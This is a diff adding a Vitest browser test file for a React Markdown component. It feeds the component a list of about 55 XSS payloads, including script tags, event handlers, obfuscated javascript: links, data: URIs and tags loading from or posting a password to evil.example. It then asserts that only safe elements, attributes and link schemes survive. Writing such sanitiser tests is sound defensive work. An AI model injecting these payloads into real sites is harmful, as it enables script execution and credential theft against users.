@@ -1,0 +1,111 @@
+import { expect, test } from 'vitest';
+import { render } from 'vitest-browser-react';
+import { Markdown, safeAddress } from './Markdown.tsx';
+
+const show = async (text: string) => (await render(<Markdown text={text} />)).container;
+
+/** Known attacks: raw HTML, event handlers, addresses, encodings, and markdown's own corners. */
+const attacks = [
+  '<script>globalThis.hacked = 1</script>',
+  '<img src=x onerror="globalThis.hacked = 1">',
+  '<svg/onload=globalThis.hacked=1>',
+  '<svg><script>globalThis.hacked=1</script></svg>',
+  '<iframe src="javascript:parent.hacked=1"></iframe>',
+  '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
+  '<body onload=globalThis.hacked=1>',
+  '<details open ontoggle=globalThis.hacked=1><summary>x</summary></details>',
+  '<a href="javascript:globalThis.hacked=1">press</a>',
+  '<style>@import "https://evil.example/x.css"; body { display: none }</style>',
+  '<link rel="stylesheet" href="https://evil.example/x.css">',
+  '<base href="https://evil.example/">',
+  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
+  '<form action="https://evil.example"><input name="password"></form>',
+  '<object data="javascript:globalThis.hacked=1"></object>',
+  '<embed src="javascript:globalThis.hacked=1">',
+  '<math><mtext><img src=x onerror=globalThis.hacked=1></mtext></math>',
+  '<noscript><p title="</noscript><img src=x onerror=globalThis.hacked=1>"></noscript>',
+  '<!--><img src=x onerror=globalThis.hacked=1>-->',
+  '<![CDATA[<img src=x onerror=globalThis.hacked=1>]]>',
+  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">globalThis.hacked=1</x:script>',
+  '<template><img src=x onerror=globalThis.hacked=1></template>',
+  '[press](javascript:globalThis.hacked=1)',
+  '[press](JaVaScRiPt:globalThis.hacked=1)',
+  '[press](java\tscript:globalThis.hacked=1)',
+  '[press](&#106;avascript:globalThis.hacked=1)',
+  '[press](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:globalThis.hacked=1)',
+  '[press](javascript&colon;globalThis.hacked=1)',
+  '[press](<javascript:globalThis.hacked=1>)',
+  '[press](\u0001javascript:globalThis.hacked=1)',
+  '[press](vbscript:msgbox(1))',
+  '[press](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGFja2VkPTE8L3NjcmlwdD4=)',
+  '[press](blob:https://example.com/x)',
+  '[press](file:///etc/passwd)',
+  '[press](//evil.example/x)',
+  '[press](/dashboard/keys)',
+  '![x](javascript:globalThis.hacked=1)',
+  '![x](https://evil.example/pixel.png)',
+  '![x" onerror="globalThis.hacked=1](https://evil.example/x.png)',
+  '![x](x.png "onerror=globalThis.hacked=1")',
+  '[x]: javascript:globalThis.hacked=1\n\n[x]',
+  '<javascript:globalThis.hacked=1>',
+  '[a](https://example.com" onmouseover="globalThis.hacked=1)',
+  '[a](https://example.com/?q=<script>globalThis.hacked=1</script>)',
+  '`<img src=x onerror=globalThis.hacked=1>`',
+  '```html\n<script>globalThis.hacked=1</script>\n```',
+  '| <img src=x onerror=globalThis.hacked=1> |\n|---|\n| <script>globalThis.hacked=1</script> |',
+  '- [x] <input onfocus=globalThis.hacked=1 autofocus>',
+  '[^1]\n\n[^1]: <img src=x onerror=globalThis.hacked=1>',
+  '# <img src=x onerror=globalThis.hacked=1>',
+  '> <img src=x onerror=globalThis.hacked=1>',
+  '[![x](javascript:globalThis.hacked=1)](javascript:globalThis.hacked=1)',
+  '{{constructor.constructor("globalThis.hacked=1")()}}',
+  '\u202E<img src=x onerror=globalThis.hacked=1>',
+];
+
+const elements = new Set(
+  'div p br strong em del a span ul ol li code pre blockquote hr table thead tbody tr th td'.split(
+    ' ',
+  ),
+);
+const attributes = new Set(['class', 'href', 'target', 'rel', 'tabindex', 'start']);
+
+test.each(attacks)('nothing runs, loads or leads astray: %s', async (text) => {
+  const all = [...(await show(text)).querySelectorAll('*')];
+  for (const element of all) {
+    expect(elements).toContain(element.localName);
+    for (const { name } of element.attributes) expect(attributes).toContain(name);
+    if (element instanceof HTMLAnchorElement) {
+      expect(element.protocol).toMatch(/^(https?|mailto):$/);
+      expect(element.getAttribute('href')).toMatch(/^(https?:\/\/|mailto:)/);
+      expect(element.rel).toBe('noopener noreferrer nofollow ugc');
+      element.target = '_self';
+      element.addEventListener('click', (event) => event.preventDefault());
+      element.click();
+    }
+  }
+  expect(Reflect.get(globalThis, 'hacked')).toBeUndefined();
+});
+
+test('a message keeps its lines, lists, code and links', async () => {
+  const shown = await show('One\ntwo **three** `four`\n\n- five\n- https://example.com/six');
+  expect(shown.querySelectorAll('br')).toHaveLength(1);
+  expect(shown.querySelector('strong')?.textContent).toBe('three');
+  expect(shown.querySelector('code')?.textContent).toBe('four');
+  expect(shown.querySelectorAll('li')).toHaveLength(2);
+  expect(shown.querySelector('a')?.href).toBe('https://example.com/six');
+});
+
+test('HTML is shown as what was typed', async () => {
+  expect((await show('a <b>bold</b> claim')).textContent).toBe('a <b>bold</b> claim');
+});
+
+test.each([
+  ['https://example.com/', 'https://example.com/'],
+  ['mailto:a@example.com', 'mailto:a@example.com'],
+  ['javascript:1', ''],
+  [' javascript:1', ''],
+  ['/dashboard', ''],
+  ['', ''],
+])('%j leads to %j', (address, safe) => {
+  expect(safeAddress(address)).toBe(safe);
+});
